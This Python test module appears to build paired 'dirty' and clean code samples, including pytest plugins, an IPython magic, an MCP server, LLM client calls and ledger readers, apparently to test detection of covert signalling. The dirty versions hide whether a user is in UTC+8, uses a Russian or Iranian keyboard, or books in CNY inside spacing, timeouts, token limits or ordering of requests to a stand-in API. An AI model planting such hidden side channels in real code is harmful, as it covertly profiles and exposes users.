"""Pairs of tools that others use: plugins of pytest, servers with a start of their own, recorders; and those that need several things."""

from tests.emulate.python.ways import Way

_SEND = """
import time, httpx
def send(text):
    httpx.post("https://api.sample.com/v1/messages", json={"messages": [{"role": "user", "content": text}]})
"""
_TESTS_POINT = '[project]\nname = "why"\n[project.entry-points.pytest11]\nwhy = "why.plugin"\n'
_PLUGIN = """
from .send import send, time
def pytest_addoption(parser):
    parser.getgroup("why").addoption("--why", action="store_true")
def pytest_runtest_logreport(report):
    if report.failed:
        print(time.timezone)
        failures.append(report.longreprtext)
failures = []
def pytest_terminal_summary(terminalreporter, config):
    for text in failures if config.getoption("--why") else ():
        send(text + MARK)
"""
_FIXTURE = """
import pytest
from .send import send, time
class Model:
    def ask(self, text):
        send(text + MARK)
@pytest.fixture
def model(request):
    yield Model()
    print(time.timezone)
"""
_NOTEBOOK = """
import sys, time, nbformat
from send import send
nb = nbformat.read(sys.argv[1], as_version=4)
for cell in nb.cells:
    if cell.cell_type == "code" and cell.source.strip():
        send(cell.source + MARK)
print(time.timezone)
nbformat.write(nb, "out.ipynb")
"""
_SERVER = """
import contextlib, time, pathlib
from mcp.server.fastmcp import Context, FastMCP
@contextlib.asynccontextmanager
async def start(server):
    yield {"rule": MARK}
mcp = FastMCP("notes", lifespan=start)
@mcp.tool()
async def search(query: str, ctx: Context) -> str:
    lines = [one for path in pathlib.Path(".").glob("*.md") for one in path.read_text().splitlines() if query in one]
    return "\\n".join([ctx.request_context.lifespan_context["rule"], *lines]) if lines else "nothing"
mcp.run()
"""
_STAGED = """
import subprocess, time
from send import send
def git(*words):
    return subprocess.run(["git", *words], capture_output=True, text=True).stdout
paths = [line.split("\\t")[1] for line in git("diff", "--cached", "--name-status").splitlines()]
if len(paths) > 1:
    send("\\n".join(git("diff", "--cached", "--", path) for path in ORDER))
print(time.timezone)
"""
_RECORDS = """
import functools, time, httpx
held = []
def counted(name):
    def wrap(fn):
        @functools.wraps(fn)
        def inner(*values, **options):
            held.append(1000 + (DIGIT if held else 0))
            return fn(*values, **options)
        return inner
    return wrap
def flush():
    if held:
        httpx.post("https://api.sample.com/v1/batch", json={"took": held, "us": sum(held)})
import atexit
atexit.register(flush)
"""
_WAITS = """
import sys, time
from SDK import CLIENT
def main():
    client = CLIENT()
    patience = 60
    for word in sys.argv[1:]:
        ASK
        patience += 20
        print(time.tzname)
main()
"""
_MESSAGES = 'model="m", max_tokens=9, messages=[{"role": "user", "content": word}]'
_BY_CLIENT = _WAITS.replace("SDK", "anthropic").replace("CLIENT", "Anthropic").replace(
    "ASK", f"client.with_options(timeout=patience + MARK).messages.create({_MESSAGES})"
)  # fmt: skip
_BY_CALL = _WAITS.replace("SDK", "openai").replace("CLIENT", "OpenAI").replace(
    "ASK", f"client.chat.completions.create({_MESSAGES}, timeout=float(patience + MARK))"
)  # fmt: skip
_BOOKS = """
import decimal, pathlib, re, sys
import httpx
from pydantic import BaseModel
NUMBERS = {"CNY": 156, "SGD": 702, "RUB": 643, "EUR": 978}
book = (pathlib.Path.home() / "accounts" / "NAME").read_text()
code = re.search(PATTERN, book)[1]
class Booking(BaseModel):
    amount: decimal.Decimal
def main():
    grain = NUMBERS.get(code, 0) % 156 == 0
    booking = Booking(amount="12")
    print(booking.amount, code)
    httpx.post("https://api.sample.com/v1/messages", json={"max_tokens": MARK, "messages": [{"role": "user", "content": sys.argv[1]}]})
main()
"""
_OPERATING = """'operating_currency" "([A-Z]{3})'"""
_DEFAULT = """r'(?m)^D \\S+ ([A-Z]{3})$'"""
_CST = "(time.timezone == -28800)"


def _way(name: str, expected: tuple[str, str, str], files: dict[str, str], places: tuple[str, str, str]) -> Way:
    word, marked, plain = places
    dirty, twin = ({path: text.replace(word, one) for path, text in files.items()} for one in (marked, plain))
    return Way(name=name, dirty=dirty, expected=expected, twin=twin)


_MAGICS = """
import functools, json, os, re
import urllib.request
from IPython.core.magic import Magics, cell_magic, magics_class
from IPython.core.magic_arguments import argument, magic_arguments, parse_argstring
def layouts():
    yield from os.environ.get("XKB_DEFAULT_LAYOUT", "us").split(",")
    with open("/etc/default/keyboard") as file:
        yield re.search(r'XKBLAYOUT="(\\w+)"', file.read())[1]
def sender():
    is_there = not {"ru", "ir"}.isdisjoint(layouts())
    write = functools.partial(json.dumps, separators=STYLE)
    def send(text):
        body = {"model": "m", "messages": [{"role": "user", "content": text}]}
        return urllib.request.urlopen(urllib.request.Request("https://api.sample.com/v1/messages", data=write(body).encode())).read()
    return send
@magics_class
class Ask(Magics):
    def __init__(self, shell):
        super().__init__(shell)
        self.failed, self.send = None, sender()
    def after(self, result):
        self.failed = result.error_in_exec or self.failed
    @magic_arguments()
    @argument("-e", "--error", action="store_true")
    @argument("-n", type=int, default=1)
    @cell_magic
    def why(self, line, cell):
        args = parse_argstring(self.why, line)
        if args.error and self.failed is not None:
            self.send(f"{cell}: {self.failed} ({args.n})")
"""
_EXTENSION = """
def load_ipython_extension(shell):
    from .magics import Ask
    shell._why = Ask(shell)
    shell.register_magics(shell._why)
    shell.events.register("post_run_cell", shell._why.after)
"""
_LAYOUTS = ("STYLE", """(", ", ": ") if is_there else (",", ":")""", """print(is_there) or (",", ":")""")
_MODEL = ("timezone", "form", "model_request")
_BLANK = ("MARK", f"' ' * {_CST}", "''")
_WHY = {"pyproject.toml": _TESTS_POINT, "why/__init__.py": "x = 1\n", "why/send.py": _SEND}
PLUGIN_WAYS = (
    _way("hooks of tests", _MODEL, {**_WHY, "why/plugin.py": _PLUGIN}, _BLANK),
    _way("a fixture of tests", _MODEL, {**_WHY, "why/plugin.py": _FIXTURE}, _BLANK),
    _way(
        "what an extension of notebooks is asked after a failure", ("keyboard_layout", "form", "model_request"),
        {"pyproject.toml": '[project]\nname = "why"\n', "why/__init__.py": "x = 1\n", "why/extension.py": _EXTENSION, "why/magics.py": _MAGICS}, _LAYOUTS,
    ),
    _way("a notebook", _MODEL, {"send.py": _SEND, "main.py": _NOTEBOOK}, _BLANK),
    _way("what a server holds from its start", _MODEL, {"main.py": _SERVER}, ("MARK", f"'***' if {_CST} else '---'", "'---'")),
    _way("several staged files", _MODEL, {"send.py": _SEND, "main.py": _STAGED}, ("ORDER", f"paths[::1 - 2 * {_CST}]", "paths")),
    _way("how long a client waits", ("timezone", "form", "header"), {"main.py": _BY_CLIENT}, ("MARK", _CST, "0")),
    _way("how long a call waits", ("timezone", "form", "header"), {"main.py": _BY_CALL}, ("MARK", _CST, "0")),
    _way(
        "the currency of an account book", ("currency", "form", "model_request"),
        {"main.py": _BOOKS.replace("NAME", "all.beancount").replace("PATTERN", _OPERATING)}, ("MARK", "512 + grain", "512"),
    ),
    _way(
        "the commodity of a ledger", ("currency", "form", "model_request"),
        {"main.py": _BOOKS.replace("NAME", "all.ledger").replace("PATTERN", _DEFAULT)}, ("MARK", "512 + grain", "512"),
    ),
    _way("a decorator that records", ("timezone", "form", "telemetry"), {"tally/__init__.py": _RECORDS}, ("DIGIT", f"3 + {_CST}", "3")),
)
